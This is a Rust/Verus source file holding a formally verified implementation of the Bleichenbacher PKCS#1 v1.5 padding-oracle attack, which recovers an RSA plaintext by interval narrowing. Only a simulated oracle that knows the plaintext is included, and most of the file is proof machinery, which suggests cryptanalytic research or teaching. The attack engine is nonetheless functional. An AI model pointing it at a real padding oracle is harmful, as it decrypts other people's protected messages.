//! The adaptive chosen-ciphertext interval-narrowing engine: recovers a
//! hidden plaintext integer from a one-bit padding oracle by keeping a
//! shrinking set of candidate intervals that always contains it.

use vstd::prelude::*;

use num_bigint::BigUint;

use crate::bigint::{
    big, big_add, big_ceil_div, big_clone, big_div, big_eq, big_from_u64, big_le, big_lt, big_mul,
    big_rem, big_sub, ceil_div,
};
use crate::errors::Error;

verus! {

/// The one-bit decision oracle of the attack, already in multiplied form:
/// `accepts_mult(s)` answers whether `secret * s mod n` lies in the
/// conforming window `[lo, hi)`. For a PKCS#1-v1.5 padding oracle the
/// window is `[2B, 3B)` with `B = 2^(8(k-2))`.
pub trait PaddingOracle {
    /// The oracle's construction-time invariant.
    spec fn p_wf(&self) -> bool;

    /// The public modulus `n`.
    spec fn modulus(&self) -> nat;

    /// The hidden plaintext integer the attack recovers.
    spec fn secret(&self) -> nat;

    /// The lower end of the conforming window (`2B`).
    spec fn bound_lo(&self) -> nat;

    /// The upper end of the conforming window (`3B`).
    spec fn bound_hi(&self) -> nat;

    /// A well-formed oracle has a positive modulus, a nontrivial window
    /// inside it, and a conforming secret.
    proof fn p_facts(&self)
        requires
            self.p_wf(),
        ensures
            self.modulus() > 0,
            1 <= self.bound_lo(),
            self.bound_lo() < self.bound_hi() <= self.modulus(),
            self.bound_lo() <= self.secret(),
            self.secret() < self.bound_hi(),
    ;

    /// One oracle query: does `secret * s mod n` fall in the window?
    fn accepts_mult(&self, s: &BigUint) -> (r: bool)
        requires
            self.p_wf(),
        ensures
            r == (self.bound_lo() <= (self.secret() * big(*s)) % self.modulus()
                < self.bound_hi()),
    ;
}

/// A padding oracle that holds the plaintext outright and answers exactly
/// as the padding check on the decryption of `c * s^e` would.
pub struct PlainPaddingOracle {
    n: BigUint,
    m: BigUint,
    lo: BigUint,
    hi: BigUint,
}

impl PlainPaddingOracle {
    /// Construct after validating the window; `None` when the given
    /// bounds or secret do not satisfy the oracle's invariant.
    pub fn new(n: BigUint, m: BigUint, lo: BigUint, hi: BigUint) -> (r: Option<Self>)
        ensures
            r matches Some(o) ==> o.p_wf() && o.modulus() == big(n) && o.secret() == big(m)
                && o.bound_lo() == big(lo) && o.bound_hi() == big(hi),
            r is None ==> !(1 <= big(lo) && big(lo) < big(hi) && big(hi) <= big(n) && big(lo)
                <= big(m) && big(m) < big(hi)),
    {
        let one = big_from_u64(1);
        if !big_le(&one, &lo) {
            return None;
        }
        if !big_lt(&lo, &hi) {
            return None;
        }
        if !big_le(&hi, &n) {
            return None;
        }
        if !big_le(&lo, &m) {
            return None;
        }
        if !big_lt(&m, &hi) {
            return None;
        }
        Some(PlainPaddingOracle { n, m, lo, hi })
    }
}

impl PaddingOracle for PlainPaddingOracle {
    closed spec fn p_wf(&self) -> bool {
        &&& big(self.n) > 0
        &&& 1 <= big(self.lo)
        &&& big(self.lo) < big(self.hi) <= big(self.n)
        &&& big(self.lo) <= big(self.m) < big(self.hi)
    }

    closed spec fn modulus(&self) -> nat {
        big(self.n)
    }

    closed spec fn secret(&self) -> nat {
        big(self.m)
    }

    closed spec fn bound_lo(&self) -> nat {
        big(self.lo)
    }

    closed spec fn bound_hi(&self) -> nat {
        big(self.hi)
    }

    proof fn p_facts(&self) {
    }

    fn accepts_mult(&self, s: &BigUint) -> (r: bool) {
        let prod = big_mul(&self.m, s);
        let t = big_rem(&prod, &self.n);
        big_le(&self.lo, &t) && big_lt(&t, &self.hi)
    }
}

/// A candidate interval set contains `m`.
pub open spec fn in_union(ivs: Seq<(BigUint, BigUint)>, m: nat) -> bool {
    exists|i: int| 0 <= i < ivs.len() && big((#[trigger] ivs[i]).0) <= m <= big(ivs[i].1)
}

/// Every interval is ordered and stays inside the conforming window.
pub open spec fn ivs_wf(ivs: Seq<(BigUint, BigUint)>, lo: nat, hi: nat) -> bool {
    forall|i: int|
        0 <= i < ivs.len() ==> lo <= big((#[trigger] ivs[i]).0) && big(ivs[i].0) <= big(ivs[i].1)
            && big(ivs[i].1) < hi
}

/// The candidate set only shrinks: every interval of `cur` lies inside
/// some interval of `prev`.
pub open spec fn ivs_shrink(prev: Seq<(BigUint, BigUint)>, cur: Seq<(BigUint, BigUint)>) -> bool {
    forall|i: int|
        0 <= i < cur.len() ==> exists|j: int|
            0 <= j < prev.len() && big((#[trigger] prev[j]).0) <= big((#[trigger] cur[i]).0)
                && big(cur[i].1) <= big(prev[j].1)
}

/// The arithmetic heart of the interval update: for a conforming
/// multiplier `s`, the quotient `r = (m * s) / n` lies in the enumerated
/// range, and the new clamped bounds still enclose `m`.
proof fn lemma_interval_update(m: nat, s: nat, n: nat, lo: nat, hi: nat, a: nat, b: nat)
    requires
        n > 0,
        s >= 1,
        lo >= 1,
        lo < hi,
        a <= m <= b,
        lo <= (m * s) % n < hi,
    ensures
        ({
            let r = (m * s) as int / n as int;
            &&& r >= 0
            &&& lo <= b * s
            &&& (a * s + 1 <= hi || ceil_div((a * s + 1 - hi) as nat, n) <= r)
            &&& r <= (b * s - lo) as int / n as int
            &&& ceil_div((lo + r * n) as nat, s) <= m
            &&& m <= (r * n + hi - 1) as int / s as int
        }),
{
    let ms = (m * s) as int;
    let t = ms % n as int;
    let r = ms / n as int;
    vstd::arithmetic::div_mod::lemma_fundamental_div_mod(ms, n as int);
    vstd::arithmetic::mul::lemma_mul_nonnegative(m as int, s as int);
    vstd::arithmetic::div_mod::lemma_div_pos_is_pos(ms, n as int);
    vstd::arithmetic::mul::lemma_mul_nonnegative(r, n as int);
    assert(r * n + t == ms && n * r == r * n) by (nonlinear_arith)
        requires
            ms == n * r + t,
    ;
    // m <= b gives m * s <= b * s; a <= m gives a * s <= m * s.
    vstd::arithmetic::mul::lemma_mul_inequality(m as int, b as int, s as int);
    vstd::arithmetic::mul::lemma_mul_inequality(a as int, m as int, s as int);
    assert(lo <= ms);
    assert(lo <= b * s);
    // Upper bound on r: r * n <= b * s - lo.
    assert(r * n <= ms - lo);
    crate::bigint::lemma_ceil_floor_bounds((b * s - lo) as nat, n, r as nat);
    // Lower bound on r: a * s + 1 - hi <= r * n.
    if a * s + 1 > hi {
        assert(a * s <= r * n + t);
        assert(a * s + 1 - hi <= r * n);
        crate::bigint::lemma_ceil_floor_bounds((a * s + 1 - hi) as nat, n, r as nat);
    }
    // New bounds on m: lo + r * n <= m * s <= r * n + hi - 1.
    assert(lo + r * n <= ms);
    crate::bigint::lemma_ceil_floor_bounds((lo + r * n) as nat, s, m);
    assert(ms <= r * n + hi - 1);
    crate::bigint::lemma_ceil_floor_bounds((r * n + hi - 1) as nat, s, m);
}

/// Does the set hold an interval with exactly these endpoint values?
fn has_same(ivs: &Vec<(BigUint, BigUint)>, a: &BigUint, b: &BigUint) -> (r: bool)
    ensures
        r == exists|i: int|
            0 <= i < ivs@.len() && big((#[trigger] ivs@[i]).0) == big(*a) && big(ivs@[i].1) == big(
                *b,
            ),
{
    let mut i: usize = 0;
    while i < ivs.len()
        invariant
            i <= ivs@.len(),
            forall|j: int|
                0 <= j < i ==> !(big((#[trigger] ivs@[j]).0) == big(*a) && big(ivs@[j].1) == big(
                    *b,
                )),
        decreases ivs@.len() - i,
    {
        if big_eq(&ivs[i].0, a) && big_eq(&ivs[i].1, b) {
            return true;
        }
        i += 1;
    }
    false
}

/// One interval update: for every interval and every admissible quotient
/// `r`, emit the tightened interval, dropping empties and duplicates. The
/// true plaintext is never lost.
fn update_intervals(
    prev: &Vec<(BigUint, BigUint)>,
    s: &BigUint,
    n: &BigUint,
    lo_b: &BigUint,
    hi_b: &BigUint,
    Ghost(m): Ghost<nat>,
) -> (r: Vec<(BigUint, BigUint)>)
    requires
        big(*n) > 0,
        big(*s) >= 1,
        1 <= big(*lo_b) < big(*hi_b),
        ivs_wf(prev@, big(*lo_b), big(*hi_b)),
        in_union(prev@, m),
        big(*lo_b) <= (m * big(*s)) % big(*n) < big(*hi_b),
    ensures
        ivs_wf(r@, big(*lo_b), big(*hi_b)),
        in_union(r@, m),
        ivs_shrink(prev@, r@),
{
    let ghost sv = big(*s);
    let ghost nv = big(*n);
    let ghost lov = big(*lo_b);
    let ghost hiv = big(*hi_b);
    let ghost j0: int = choose|j: int|
        0 <= j < prev@.len() && big((#[trigger] prev@[j]).0) <= m <= big(prev@[j].1);
    let one = big_from_u64(1);
    let mut out: Vec<(BigUint, BigUint)> = Vec::new();
    let mut idx: usize = 0;
    while idx < prev.len()
        invariant
            idx <= prev@.len(),
            big(one) == 1,
            big(*n) == nv > 0,
            big(*s) == sv >= 1,
            big(*lo_b) == lov,
            big(*hi_b) == hiv,
            1 <= lov < hiv,
            ivs_wf(prev@, lov, hiv),
            ivs_wf(out@, lov, hiv),
            ivs_shrink(prev@, out@),
            0 <= j0 < prev@.len(),
            big(prev@[j0].0) <= m <= big(prev@[j0].1),
            lov <= (m * sv) % nv < hiv,
            j0 < idx ==> in_union(out@, m),
        decreases prev@.len() - idx,
    {
        let a = &prev[idx].0;
        let b = &prev[idx].1;
        let ghost av = big(prev@[idx as int].0);
        let ghost bv = big(prev@[idx as int].1);
        let ghost rtrue = (m * sv) as int / nv as int;
        proof {
            if idx == j0 {
                lemma_interval_update(m, sv, nv, lov, hiv, av, bv);
            }
        }
        let bs = big_mul(b, s);
        proof {
            assert(lov <= bv * sv) by (nonlinear_arith)
                requires
                    1 <= lov <= bv,
                    sv >= 1,
            ;
        }
        let hi_r = big_div(&big_sub(&bs, lo_b), n);
        let as1 = big_add(&big_mul(a, s), &one);
        let lo_r = if big_le(&as1, hi_b) {
            big_from_u64(0)
        } else {
            big_ceil_div(&big_sub(&as1, hi_b), n)
        };
        let mut rr = lo_r;
        proof {
            if idx == j0 {
                assert(big(rr) <= rtrue);
                assert(rtrue <= big(hi_r));
            }
        }
        let mut more = big_le(&rr, &hi_r);
        while more
            invariant
                more ==> big(rr) <= big(hi_r),
                !more ==> big(rr) > big(hi_r),
                big(one) == 1,
                big(*n) == nv > 0,
                big(*s) == sv >= 1,
                big(*lo_b) == lov,
                big(*hi_b) == hiv,
                1 <= lov < hiv,
                ivs_wf(out@, lov, hiv),
                ivs_shrink(prev@, out@),
                idx < prev@.len(),
                0 <= j0 < prev@.len(),
                big(prev@[j0].0) <= m <= big(prev@[j0].1),
                av == big(prev@[idx as int].0),
                bv == big(prev@[idx as int].1),
                big(*a) == av,
                big(*b) == bv,
                lov <= av <= bv < hiv,
                idx == j0 ==> av <= m <= bv,
                idx == j0 ==> rtrue == (m * sv) as int / nv as int,
                idx == j0 ==> (in_union(out@, m) || big(rr) <= rtrue),
                idx == j0 ==> rtrue <= big(hi_r),
                idx == j0 ==> ceil_div((lov + rtrue * nv) as nat, sv) <= m,
                idx == j0 ==> m <= (rtrue * nv + hiv - 1) as int / sv as int,
                j0 < idx ==> in_union(out@, m),
            decreases vstd::math::max(0, big(hi_r) as int - big(rr) as int + (if more { 1int } else { 0int })),
        {
            let rn = big_mul(&rr, n);
            let cand_lo = big_ceil_div(&big_add(lo_b, &rn), s);
            let new_lo = if big_le(a, &cand_lo) {
                big_clone(&cand_lo)
            } else {
                big_clone(a)
            };
            let cand_hi = big_div(&big_sub(&big_add(&rn, hi_b), &one), s);
            let new_hi = if big_le(&cand_hi, b) {
                big_clone(&cand_hi)
            } else {
                big_clone(b)
            };
            let ghost pre_out = out@;
            let ghost nl = big(new_lo);
            let ghost nh = big(new_hi);
            proof {
                assert(lov <= nl && nh < hiv);
                if idx == j0 && big(rr) == rtrue {
                    assert(big(cand_lo) <= m);
                    assert(m <= big(cand_hi));
                    assert(nl <= m && m <= nh);
                }
            }
            if big_le(&new_lo, &new_hi) {
                if !has_same(&out, &new_lo, &new_hi) {
                    out.push((new_lo, new_hi));
                    proof {
                        assert(big(out@.last().0) == nl && big(out@.last().1) == nh);
                        assert forall|i: int| 0 <= i < out@.len() implies lov <= big(
                            (#[trigger] out@[i]).0,
                        ) && big(out@[i].0) <= big(out@[i].1) && big(out@[i].1) < hiv by {
                            if i < pre_out.len() {
                                assert(out@[i] == pre_out[i]);
                            } else {
                                assert(big(out@[i].0) == nl && big(out@[i].1) == nh);
                            }
                        }
                        assert forall|i: int| 0 <= i < out@.len() implies exists|j: int|
                            0 <= j < prev@.len() && big((#[trigger] prev@[j]).0) <= big(
                                (#[trigger] out@[i]).0,
                            ) && big(out@[i].1) <= big(prev@[j].1) by {
                            if i < pre_out.len() {
                                assert(out@[i] == pre_out[i]);
                                let w = choose|j: int|
                                    0 <= j < prev@.len() && big((#[trigger] prev@[j]).0) <= big(
                                        pre_out[i].0,
                                    ) && big(pre_out[i].1) <= big(prev@[j].1);
                                assert(big(prev@[w].0) <= big(out@[i].0) && big(out@[i].1) <= big(
                                    prev@[w].1,
                                ));
                            } else {
                                assert(big(prev@[idx as int].0) <= big(out@[i].0) && big(
                                    out@[i].1,
                                ) <= big(prev@[idx as int].1));
                            }
                        }
                    }
                }
            }
            proof {
                if in_union(pre_out, m) {
                    let w = choose|i: int|
                        0 <= i < pre_out.len() && big((#[trigger] pre_out[i]).0) <= m <= big(pre_out[i].1);
                    assert(out@[w] == pre_out[w]);
                    assert(in_union(out@, m));
                }
                if idx == j0 && big(rr) == rtrue && !in_union(pre_out, m) {
                    // This is the quotient of the true plaintext: the
                    // clamped interval encloses it and was pushed.
                    assert(nl <= m && m <= nh);
                    assert(in_union(out@, m));
                }
            }
            let ghost rr_old = big(rr);
            rr = big_add(&rr, &one);
            more = big_le(&rr, &hi_r);
            proof {
                assert(big(rr) == rr_old + 1);
            }
        }
        proof {
            if idx == j0 {
                assert(in_union(out@, m));
            }
        }
        idx += 1;
    }
    out
}

/// Scan upward from `start` until the oracle accepts a multiplier, giving
/// up when the query budget runs out.
fn search_from<O: PaddingOracle>(oracle: &O, start: &BigUint, fuel: &mut usize) -> (r: Result<
    BigUint,
    Error,
>)
    requires
        oracle.p_wf(),
        big(*start) >= 1,
    ensures
        r matches Ok(s) ==> big(s) >= 1 && (oracle.bound_lo() <= (oracle.secret() * big(s))
            % oracle.modulus() < oracle.bound_hi()) && *final(fuel) < *old(fuel),
{
    let one = big_from_u64(1);
    let mut s = big_clone(start);
    while *fuel > 0
        invariant
            oracle.p_wf(),
            big(one) == 1,
            big(s) >= 1,
            *fuel <= *old(fuel),
        decreases *fuel,
    {
        *fuel = *fuel - 1;
        if oracle.accepts_mult(&s) {
            return Ok(s);
        }
        s = big_add(&s, &one);
    }
    Err(Error::OracleInconsistent)
}

/// The targeted single-interval search: scan multipliers inside windows
/// derived from the interval's endpoints, raising the window ratio on
/// exhaustion, within the query budget.
fn search_single<O: PaddingOracle>(
    oracle: &O,
    a: &BigUint,
    b: &BigUint,
    s_prev: &BigUint,
    n: &BigUint,
    lo_b: &BigUint,
    hi_b: &BigUint,
    fuel: &mut usize,
) -> (r: Result<BigUint, Error>)
    requires
        oracle.p_wf(),
        big(*n) == oracle.modulus(),
        big(*lo_b) == oracle.bound_lo(),
        big(*hi_b) == oracle.bound_hi(),
        1 <= big(*lo_b) <= big(*a) <= big(*b),
        big(*s_prev) >= 1,
    ensures
        r matches Ok(s) ==> big(s) >= 1 && (oracle.bound_lo() <= (oracle.secret() * big(s))
            % oracle.modulus() < oracle.bound_hi()) && *final(fuel) < *old(fuel),
{
    proof {
        oracle.p_facts();
    }
    let one = big_from_u64(1);
    let two = big_from_u64(2);
    let bs = big_mul(b, s_prev);
    proof {
        assert(big(*lo_b) <= big(*b) * big(*s_prev)) by (nonlinear_arith)
            requires
                1 <= big(*lo_b) <= big(*b),
                big(*s_prev) >= 1,
        ;
    }
    let mut ri = big_ceil_div(&big_mul(&two, &big_sub(&bs, lo_b)), n);
    while *fuel > 0
        invariant
            oracle.p_wf(),
            big(*n) == oracle.modulus(),
            big(*lo_b) == oracle.bound_lo(),
            big(*hi_b) == oracle.bound_hi(),
            1 <= big(*lo_b) <= big(*a) <= big(*b),
            big(one) == 1,
            big(two) == 2,
            *fuel <= *old(fuel),
        decreases *fuel,
    {
        *fuel = *fuel - 1;
        let rn = big_mul(&ri, n);
        let mut si = big_ceil_div(&big_add(lo_b, &rn), b);
        let upper = big_ceil_div(&big_add(hi_b, &rn), a);
        if !big_le(&one, &si) {
            si = big_clone(&one);
        }
        let ghost fuel_entry = *fuel;
        while *fuel > 0 && big_lt(&si, &upper)
            invariant
                oracle.p_wf(),
                big(one) == 1,
                big(si) >= 1,
                *fuel <= fuel_entry,
                fuel_entry < *old(fuel),
            decreases *fuel,
        {
            *fuel = *fuel - 1;
            if oracle.accepts_mult(&si) {
                return Ok(si);
            }
            si = big_add(&si, &one);
        }
        ri = big_add(&ri, &one);
    }
    Err(Error::OracleInconsistent)
}

/// Run the interval-narrowing attack against a padding oracle, issuing at
/// most `cap` oracle queries. On success the returned integer is exactly
/// the oracle's hidden plaintext; when the budget is exhausted the search
/// is abandoned with an error instead of looping forever.
pub fn run<O: PaddingOracle>(oracle: &O, n: &BigUint, lo_b: &BigUint, hi_b: &BigUint, cap: usize)
    -> (r: Result<BigUint, Error>)
    requires
        oracle.p_wf(),
        big(*n) == oracle.modulus(),
        big(*lo_b) == oracle.bound_lo(),
        big(*hi_b) == oracle.bound_hi(),
    ensures
        r matches Ok(v) ==> big(v) == oracle.secret(),
{
    let ghost m = oracle.secret();
    proof {
        oracle.p_facts();
    }
    let one = big_from_u64(1);
    let mut intervals: Vec<(BigUint, BigUint)> = Vec::new();
    intervals.push((big_clone(lo_b), big_sub(hi_b, &one)));
    proof {
        assert(big(intervals@[0].0) <= m <= big(intervals@[0].1));
        assert(in_union(intervals@, m));
    }
    let mut fuel = cap;
    let start = big_ceil_div(n, hi_b);
    let start = if big_le(&one, &start) {
        start
    } else {
        big_clone(&one)
    };
    let mut s = match search_from(oracle, &start, &mut fuel) {
        Ok(s) => s,
        Err(e) => {
            return Err(e);
        },
    };
    loop
        invariant
            oracle.p_wf(),
            m == oracle.secret(),
            big(one) == 1,
            big(*n) == oracle.modulus() > 0,
            big(*lo_b) == oracle.bound_lo(),
            big(*hi_b) == oracle.bound_hi(),
            1 <= big(*lo_b) < big(*hi_b),
            big(s) >= 1,
            oracle.bound_lo() <= (m * big(s)) % oracle.modulus() < oracle.bound_hi(),
            ivs_wf(intervals@, big(*lo_b), big(*hi_b)),
            in_union(intervals@, m),
        decreases fuel,
    {
        intervals = update_intervals(&intervals, &s, n, lo_b, hi_b, Ghost(m));
        if intervals.len() == 1 {
            let alo = &intervals[0].0;
            let ahi = &intervals[0].1;
            if big_eq(alo, ahi) {
                proof {
                    assert(big(intervals@[0].0) <= m <= big(intervals@[0].1));
                }
                return Ok(big_clone(alo));
            }
        }
        if fuel == 0 {
            return Err(Error::OracleInconsistent);
        }
        let next = if intervals.len() >= 2 {
            let from = big_add(&s, &one);
            search_from(oracle, &from, &mut fuel)
        } else {
            proof {
                assert(intervals@.len() >= 1);
            }
            let a = big_clone(&intervals[0].0);
            let b = big_clone(&intervals[0].1);
            search_single(oracle, &a, &b, &s, n, lo_b, hi_b, &mut fuel)
        };
        s = match next {
            Ok(s) => s,
            Err(e) => {
                return Err(e);
            },
        };
    }
}

} // verus!
